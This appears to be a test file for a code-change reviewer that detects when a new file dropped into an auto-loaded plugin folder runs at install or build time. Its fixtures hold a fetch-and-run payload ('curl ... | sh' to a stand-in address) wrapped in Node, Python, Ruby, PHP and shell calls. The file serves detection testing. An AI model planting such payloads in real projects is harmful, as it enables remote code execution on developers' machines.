import { describe, expect, test } from "vitest";
import type { MemoryTree } from "../../fakes/memory-commits.ts";
import { reviewChange } from "../setting.ts";

const INSTALL = (command: string) => JSON.stringify({ scripts: { postinstall: command } });
const SHELL = "curl -s http://192.0.2.1/x | sh";
const JS = `require("child_process").execSync("${SHELL}");\n`;
const PY = `import os\nos.system("${SHELL}")\n`;
const RB = `system("${SHELL}")\n`;

/** An old program runs whatever lies in a folder; the change puts one more file there. */
const LOADERS: { name: string; program: MemoryTree; file: string; text: string; when: string }[] = [
  {
    name: "readdirSync and require",
    program: {
      "package.json": INSTALL("node run.js"),
      "run.js": `const fs = require("fs"), path = require("path");\nfs.readdirSync(path.join(__dirname, "plugins")).forEach((f) => require("./plugins/" + f));\n`,
    },
    file: "plugins/b.js",
    text: JS,
    when: "install",
  },
  {
    name: "readdirSync and path.join",
    program: {
      "package.json": INSTALL("node run.js"),
      "run.js": `const fs = require("fs"), path = require("path");\nfor (const f of fs.readdirSync(path.join(__dirname, "plugins"))) require(path.join(__dirname, "plugins", f));\n`,
    },
    file: "plugins/b.js",
    text: JS,
    when: "install",
  },
  {
    name: "a pattern of glob",
    program: {
      "package.json": INSTALL("node run.js"),
      "run.js": `require("glob").sync("./tasks/**/*.js").forEach((f) => require(f));\n`,
    },
    file: "tasks/deep/b.js",
    text: JS,
    when: "install",
  },
  {
    name: "pkgutil.iter_modules",
    program: {
      "setup.py": `import pkgutil, importlib\nimport plugins\nfor m in pkgutil.iter_modules(plugins.__path__):\n    importlib.import_module("plugins." + m.name)\n`,
      "plugins/__init__.py": "",
    },
    file: "plugins/b.py",
    text: PY,
    when: "install",
  },
  {
    name: "glob.glob and runpy",
    program: {
      "setup.py": `import glob, runpy\nfor f in glob.glob("plugins/*.py"):\n    runpy.run_path(f)\n`,
    },
    file: "plugins/b.py",
    text: PY,
    when: "install",
  },
  {
    name: "Dir[] and require",
    program: {
      Rakefile: `Dir[File.join(__dir__, "tasks", "*.rb")].each { |f| require f }\n`,
    },
    file: "tasks/b.rb",
    text: RB,
    when: "build",
  },
  {
    name: "glob and include of PHP",
    program: {
      "composer.json": `{"scripts":{"post-install-cmd":"php run.php"}}`,
      "run.php": `<?php foreach (glob(__DIR__ . '/plugins/*.php') as $f) { require $f; }`,
    },
    file: "plugins/b.php",
    text: `<?php system('${SHELL}');`,
    when: "install",
  },
  {
    name: "a loop of shell over a pattern",
    program: {
      "package.json": INSTALL("sh run.sh"),
      "run.sh": `for f in hooks.d/*.sh; do . "$f"; done\n`,
    },
    file: "hooks.d/b.sh",
    text: `${SHELL}\n`,
    when: "install",
  },
];

describe("a file in a folder of which an old program loads everything", () => {
  test.each(LOADERS)("runs when $name does", async ({ program, file, text, when }) => {
    const review = await reviewChange(program, { ...program, [file]: text });
    const found = review.executions.filter(
      ({ path, trigger }) => path === file && trigger === when,
    );
    expect(found).toHaveLength(1);
    expect(review.verdict).toBe("malicious");
  });

  test("does not run when it lies in another folder", async () => {
    const { program } = LOADERS[0] ?? { program: {} };
    const review = await reviewChange(program, { ...program, "docs/b.js": "exports.x = 1;\n" });
    expect(review.executions.filter(({ path }) => path === "docs/b.js")).toEqual([]);
  });

  test("is no finding when it is harmless", async () => {
    const { program } = LOADERS[2] ?? { program: {} };
    const review = await reviewChange(program, { ...program, "tasks/c.js": "exports.x = 1;\n" });
    expect(review).toMatchObject({ verdict: "clean", complete: true });
  });
});
